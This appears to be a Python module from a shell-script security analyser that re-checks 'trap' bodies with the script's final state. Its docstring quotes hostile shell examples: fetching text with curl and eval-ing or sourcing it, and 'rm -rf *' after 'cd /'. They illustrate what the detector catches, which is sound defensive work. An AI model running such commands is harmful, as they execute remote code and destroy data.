"""Trap bodies run later: ``trap CODE SIG`` runs CODE when SIG arrives or the shell exits.

The walk classifies CODE where ``trap`` is written, with the state of that moment. But the
body runs later, with the state of then: ``trap 'eval "$x"' EXIT; x=$(curl u)`` evaluates
fetched text, ``trap '. ./hook.sh' EXIT; curl u -o hook.sh`` sources a fetched file, and
``trap 'rm -rf *' EXIT; cd /`` deletes everything under ``/``. So the bodies set by the
top-level script are classified once more after the walk, with its final variables, files
and working directory. A finding both readings share is reported once (the run keeps one
finding per rule and span); only what the later state adds is new.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from ._values import Field

if TYPE_CHECKING:
    from ._walk import Run

__all__ = ["check_traps", "note_trap"]

_MAX_TRAPS = 16


def note_trap(run: Run, code: Field, span: tuple[int, int]) -> None:
    """Remember a trap body the top-level script sets (nested code's traps fire when that
    nested shell ends: they are read where they are set)."""
    if not run.frames and not run.raw_mode and len(run.traps) < _MAX_TRAPS and code.text:
        run.traps.append((code, span))


def check_traps(run: Run) -> None:
    """After the walk: classify each trap body again with the final state."""
    for code, span in run.traps:
        run.run_code(code, "trap", span, None, positional=[])
